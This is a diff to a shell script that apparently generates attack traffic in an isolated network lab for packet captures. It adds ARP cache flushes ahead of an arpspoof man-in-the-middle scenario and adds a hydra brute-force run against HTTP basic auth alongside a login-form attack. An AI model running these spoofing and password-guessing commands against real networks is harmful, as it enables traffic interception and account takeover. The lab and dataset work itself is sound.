@@ -97,6 +97,9 @@ sc_arp_scan() { tool lab_in att timeout 30 arp-scan -I eth0 --localnet; }
 # the attacker poisons client .20 and the router about each other (-r: both ways, the MitM
 # pattern) while the client keeps pinging its gateway; arpspoof re-ARPs on exit.
 sc_arp_spoof() {
+    # Expired ARP entries: the true bindings are resolved on the wire first.
+    lab_in c20 ip neigh flush all
+    lab_in rt ip neigh flush all
     tool lab_in c20 ping -c 2 -i 0.2 "$LAB_ROUTER_IP"
     tool lab_in att ping -c 2 -i 0.2 "$SRV"
     lab_in att timeout -k 12 8 arpspoof -i eth0 -t "$LAB_NET.20" -r "$LAB_ROUTER_IP" >>"$PCAPS/tools.log" 2>&1 &
@@ -156,8 +159,10 @@ sc_brute_force_sshpass() {
     done
 }
 
-# Web login form guessing: every POST /login is answered 401.
+# Web login guessing: HTTP basic auth on /admin/ (every try refused with 401), then a login
+# form (refused with 200 + "Login failed", as most web apps answer).
 sc_brute_force_http() {
+    tool lab_in att timeout 60 hydra -l admin -P "$WORK/words.txt" -t 4 -w 5 -I -q "http-get://$SRV/admin/"
     tool lab_in att timeout 60 hydra -l admin -P "$WORK/words.txt" -t 4 -w 5 -I -q "$SRV" http-post-form \
         '/login:user=^USER^&pass=^PASS^:F=Login failed'
 }
